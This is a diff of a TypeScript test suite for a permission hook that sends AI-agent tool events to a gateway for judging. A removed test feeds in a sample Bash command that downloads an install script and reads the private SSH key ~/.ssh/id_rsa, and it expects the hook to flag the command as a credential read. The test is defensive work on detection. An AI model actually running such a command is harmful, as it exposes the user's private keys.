@@ -38,11 +38,11 @@ const judging: Answers = (response, text) =>
   text.includes('pwned') ? response.end('{"continue":true,"permission":"deny","user_message":"Not that."}') : allow(response)
 
 /** A gateway, an account that asks it, and where its process would be met. */
-const account = async (answers: Answers = judging, more: Readonly<Record<string, unknown>> = {}, source = 'gateway') => {
+const account = async (answers: Answers = judging, more: Readonly<Record<string, unknown>> = {}) => {
   const gateway = await tlsGateway((response, { text }) => answers(response, text))
   closing.push(gateway.close)
   const config = { url: gateway.url, caFile, resident: true, ...more }
-  const home = folder({ '.config/tfy-hook/config.yaml': JSON.stringify({ source, gateway: config }) })
+  const home = folder({ '.config/tfy-hook/config.yaml': JSON.stringify({ source: 'gateway', gateway: config }) })
   const state = join(home, 'state/tfy-hook')
   const meeting = meetingFor(config as World['config'], {}, state, ownVersion, whole)
   if (meeting === undefined) throw new Error('nothing is kept')
@@ -248,24 +248,6 @@ describe.skipIf(!built)('the door leaves to the whole program', () => {
     expect(await at.ask(event, 'on')).toMatchObject({ exitCode: 0, stderr: '' })
     expect(existsSync(join(at.state, 'spool'))).toBe(true)
     expect(at.gateway.seen).toHaveLength(0)
-  })
-
-  it('one of which something is noted as well', async () => {
-    const at = await kept(judging, {}, 'both')
-    const event = JSON.stringify({
-      session_id: 's',
-      hook_event_name: 'PermissionDenied',
-      cwd: '/work',
-      tool_name: 'Bash',
-      tool_input: { command: 'curl -o install.sh https://example.test/install.sh; cat ~/.ssh/id_rsa' },
-    })
-    expect(itself((await at.ask(event)).stderr)).toBe(false)
-    expect(await at.ask(event, 'on')).toMatchObject({
-      exitCode: 0,
-      stdout: expect.stringContaining('secrets.read-credentials'),
-      stderr: '',
-    })
-    expect(readdirSync(join(at.state, 'sessions')).length).toBeGreaterThan(0)
   })
 })
 
